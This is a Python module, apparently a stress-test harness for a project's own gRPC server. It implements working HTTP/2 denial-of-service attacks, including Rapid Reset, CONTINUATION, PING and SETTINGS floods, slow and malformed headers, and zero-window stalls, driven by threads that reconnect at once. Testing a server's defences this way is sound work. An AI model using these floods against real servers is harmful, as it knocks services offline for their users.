"""Abuses of an HTTP/2 server, each of which continues until it is ended.

A disconnected attacker reconnects immediately. It reads what it is sent, so that the server never
waits for it, and runs in the idle scheduling class, so that its own load on the machine does not
count as the server's.
"""

from __future__ import annotations

import contextlib
import itertools
import random
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from multiprocessing.synchronize import Event

from contact.v1 import audit_pb2, contact_pb2, recipients_pb2

from . import frames
from .frames import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    WINDOW_UPDATE,
)
from .holders import connect
from .spawned import use_idle_class

READ_BYTES = 1 << 16
FULL_SECONDS = 0.002
STREAMS_PER_CONNECTION = 100
# Size of a chunk: large enough that sending costs little per frame.
FRAMES_PER_CHUNK = 1_000
# A customer with the maximum number of contacts.
LARGE_CUSTOMER = "LARGE"


@dataclass(frozen=True)
class Target:
    """The server, and the valid tokens of two clients."""

    address: str
    tokens: tuple[str, ...]

    @property
    def token(self) -> str:
        return random.choice(self.tokens) if self.tokens else ""


@dataclass
class Count:
    """Counts of an attacker."""

    connections: int = 0
    thrown_out: int = 0
    sent_bytes: int = 0

    def __iadd__(self, other: Count) -> Count:
        self.connections += other.connections
        self.thrown_out += other.thrown_out
        self.sent_bytes += other.sent_bytes
        return self


@dataclass
class Abuse:
    """The bytes that an abuse sends on one connection."""

    # Number of concurrent connections.
    connections: int = 8
    # Minimum duration of a pass over all connections.
    pause_seconds: float = 0.0
    # True if the attacker reads its socket.
    reads: bool = True
    # True if it closes each connection after the first two chunks.
    is_brief: bool = False
    target: Target = field(default_factory=lambda: Target("", ()))

    def chunks(self) -> Iterator[bytes]:
        """Yields the chunks to send; afterwards the connection is only held."""
        raise NotImplementedError


@dataclass
class RapidReset(Abuse):
    """Requests that are cancelled immediately, without a token."""

    resets_per_chunk: int = FRAMES_PER_CHUNK

    def chunks(self) -> Iterator[bytes]:
        yield frames.HANDSHAKE
        head, later_head = self.header_blocks()
        cancel = CANCEL.to_bytes(4, "big")
        stream = 1
        while stream < 1 << 30:
            chunk = bytearray()
            for _ in range(self.resets_per_chunk):
                chunk += frames.frame(HEADERS, END_HEADERS, stream, head)
                chunk += self.message(stream)
                chunk += frames.frame(RST_STREAM, 0, stream, cancel)
                head = later_head
                stream += 2
            yield bytes(chunk)

    def header_blocks(self) -> tuple[bytes, bytes]:
        """Returns the header blocks of the first request and of each later one."""
        block = frames.rpc_header_block("ResolveRecipients")
        return block, block

    def message(self, stream: int) -> bytes:
        del stream
        return b""


class RapidResetOfRequests(RapidReset):
    """Valid requests that are cancelled immediately."""

    def header_blocks(self) -> tuple[bytes, bytes]:
        block = frames.rpc_header_block("ResolveRecipients", self.target.token)
        return block, block

    def message(self, stream: int) -> bytes:
        request = recipients_pb2.ResolveRecipientsRequest(
            customer_number="C-00000000", purpose=recipients_pb2.PURPOSE_GENERAL
        )
        body = frames.message(request.SerializeToString())
        return frames.frame(DATA, END_STREAM, stream, body)


class RapidResetOfShortRequests(RapidResetOfRequests):
    """The same with headers of a few bytes, so that one read of the server contains many requests."""

    def header_blocks(self) -> tuple[bytes, bytes]:
        return frames.indexed_header_blocks(frames.rpc_path("ResolveRecipients"), self.target.token)


class ContinuationFlood(Abuse):
    """A header block that never ends."""

    def chunks(self) -> Iterator[bytes]:
        yield frames.HANDSHAKE + frames.frame(HEADERS, 0, 1, frames.rpc_header_block("GetCustomer"))
        more = frames.frame(CONTINUATION, 0, 1, frames.header("x", "y"))
        while True:
            yield more * FRAMES_PER_CHUNK


class EmptyData(Abuse):
    """A stream with a valid token and empty DATA frames."""

    def chunks(self) -> Iterator[bytes]:
        head = frames.rpc_header_block("StreamRecipients", self.target.token)
        yield frames.HANDSHAKE + frames.frame(HEADERS, END_HEADERS, 1, head)
        while True:
            yield frames.frame(DATA, 0, 1) * FRAMES_PER_CHUNK


class MalformedHeaders(Abuse):
    """Streams with headers that no request may have."""

    def chunks(self) -> Iterator[bytes]:
        yield frames.HANDSHAKE
        head = frames.rpc_header_block("GetCustomer") + frames.header("UPPER", "case")
        stream = 1
        while stream < 1 << 30:
            last = stream + 2 * FRAMES_PER_CHUNK
            yield b"".join(
                frames.frame(HEADERS, END_HEADERS | END_STREAM, number, head)
                for number in range(stream, last, 2)
            )
            stream = last


class Silence(Abuse):
    """Connections without a handshake."""

    def chunks(self) -> Iterator[bytes]:
        return iter(())


class SlowHeaders(Abuse):
    """Headers sent one byte at a time."""

    def chunks(self) -> Iterator[bytes]:
        yield frames.HANDSHAKE
        head = frames.frame(HEADERS, END_HEADERS, 1, frames.rpc_header_block("GetCustomer") * 50)
        for byte in head:
            yield bytes([byte])


class PingFlood(Abuse):
    """Pings, each of which requires an acknowledgement."""

    def chunks(self) -> Iterator[bytes]:
        yield frames.HANDSHAKE
        while True:
            yield frames.frame(PING, 0, 0, b"12345678") * FRAMES_PER_CHUNK


class SettingsFlood(Abuse):
    """SETTINGS frames, each of which requires an acknowledgement and affects every stream."""

    def chunks(self) -> Iterator[bytes]:
        yield frames.HANDSHAKE
        changes = [frames.settings(initial_window_size=size) for size in (65_535, 1_000)]
        while True:
            yield b"".join(changes) * (FRAMES_PER_CHUNK // 2)


@dataclass
class Unread(Abuse):
    """Responses to a client with a token that are requested and never read."""

    rpc: str = "StreamRecipients"
    # The window of each stream. The connection's own window is wide, so that every stream stalls by
    # itself.
    window: int = 0

    def chunks(self) -> Iterator[bytes]:
        widen = frames.frame(WINDOW_UPDATE, 0, 0, (1 << 30).to_bytes(4, "big"))
        yield frames.PREFACE + frames.settings(initial_window_size=self.window) + widen
        body = frames.message(self.request())
        head = frames.rpc_header_block(self.rpc, self.target.token)
        for index in range(STREAMS_PER_CONNECTION):
            stream = 2 * index + 1
            yield frames.frame(HEADERS, END_HEADERS, stream, head) + frames.frame(
                DATA, END_STREAM, stream, body
            )

    def request(self) -> bytes:
        if self.rpc == "WatchChanges":
            return audit_pb2.WatchChangesRequest().SerializeToString()
        if self.rpc == "ListContacts":
            return contact_pb2.ListContactsRequest(
                customer_number=LARGE_CUSTOMER, page_size=1_000
            ).SerializeToString()
        numbers = [f"C-{number:08}" for number in range(1_000)]
        return recipients_pb2.StreamRecipientsRequest(
            customer_numbers=numbers, purpose=recipients_pb2.PURPOSE_INVOICE
        ).SerializeToString()


class UnreadRejections(Abuse):
    """Requests without a token, whose rejections stay in the socket."""

    def chunks(self) -> Iterator[bytes]:
        yield frames.HANDSHAKE
        head = frames.rpc_header_block("GetCustomer")
        stream = 1
        while stream < 1 << 30:
            last = stream + 2 * STREAMS_PER_CONNECTION
            yield b"".join(
                frames.frame(HEADERS, END_HEADERS | END_STREAM, number, head)
                for number in range(stream, last, 2)
            )
            stream = last


@dataclass
class OpenRpcs(Abuse):
    """Streams that need no token, as many as a connection may have."""

    path: str = "/grpc.health.v1.Health/Watch"

    def chunks(self) -> Iterator[bytes]:
        yield frames.HANDSHAKE
        head = frames.header_block(self.path)
        for index in range(STREAMS_PER_CONNECTION):
            # A reflection stream waits for a request, a health watch has an empty one.
            message = frames.frame(DATA, 0, 2 * index + 1, frames.message(b""))
            body = message if "Health" in self.path else b""
            yield frames.frame(HEADERS, END_HEADERS, 2 * index + 1, head) + body


class Idle(Abuse):
    """Connections that are idle after the handshake."""

    def chunks(self) -> Iterator[bytes]:
        yield frames.HANDSHAKE


class UnfinishedRequests(Abuse):
    """Requests with a token that never send their message; each is repeated when it ends."""

    def chunks(self) -> Iterator[bytes]:
        yield frames.HANDSHAKE
        head = frames.rpc_header_block("ResolveRecipients", self.target.token)
        stream = 1
        while True:
            chunk = b"".join(
                frames.frame(HEADERS, END_HEADERS, number, head)
                for number in range(stream, stream + 2 * STREAMS_PER_CONNECTION, 2)
            )
            stream += 2 * STREAMS_PER_CONNECTION
            yield chunk


def attack(abuse: Abuse, stop: Event) -> Count:
    """Keeps all connections of an abuse busy, in at most 16 threads."""
    use_idle_class()
    threads = min(abuse.connections, 16)
    shares = [Count() for _ in range(threads)]
    workers = [
        threading.Thread(
            target=run_connections, args=(abuse, len(range(index, abuse.connections, threads)), stop, share)
        )
        for index, share in enumerate(shares)
    ]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    whole = Count()
    for share in shares:
        whole += share
    return whole


def run_connections(abuse: Abuse, connections: int, stop: Event, count: Count) -> None:
    """Rotates through its connections, and reopens those that were closed."""
    lines: list[Line | None] = [None] * connections
    while not stop.is_set():
        start = time.monotonic()
        for index, line in enumerate(lines):
            if stop.is_set():
                break
            if line is None:
                with contextlib.suppress(OSError):
                    lines[index] = Line(abuse)
                    count.connections += 1
            elif not line.step(count):
                line.close()
                lines[index] = None
                count.thrown_out += 1
        # Nothing to send in this pass, or a requested pause.
        idle = all(line is None or line.is_done for line in lines)
        pause = max(abuse.pause_seconds - (time.monotonic() - start), 0.1 if idle else 0)
        if pause:
            stop.wait(pause)
    for line in lines:
        if line is not None:
            line.close()


class Line:
    """One connection of an attacker."""

    def __init__(self, abuse: Abuse) -> None:
        self._connection = connect(abuse.target.address)
        self._connection.setblocking(False)
        self._chunks = itertools.islice(abuse.chunks(), 2 if abuse.is_brief else None)
        self._reads = abuse.reads
        self._is_brief = abuse.is_brief
        self._rest = b""
        self.is_done = False

    def close(self) -> None:
        self._connection.close()

    def step(self, count: Count) -> bool:
        """Sends a chunk and reads; returns true while the connection is open."""
        try:
            if not self._rest and not self.is_done:
                self._rest = next(self._chunks, b"")
                self.is_done = not self._rest
            if self._rest:
                self._send(count)
            return self._take() and not (self._is_brief and self.is_done)
        except OSError:
            return False

    def _send(self, count: Count) -> None:
        try:
            sent = self._connection.send(self._rest)
        except BlockingIOError:
            # The server does not keep up.
            time.sleep(FULL_SECONDS)
            return
        self._rest = self._rest[sent:]
        count.sent_bytes += sent

    def _take(self) -> bool:
        if not self._reads:
            return True
        try:
            while self._connection.recv(READ_BYTES):
                pass
        except BlockingIOError:
            return True
        return False
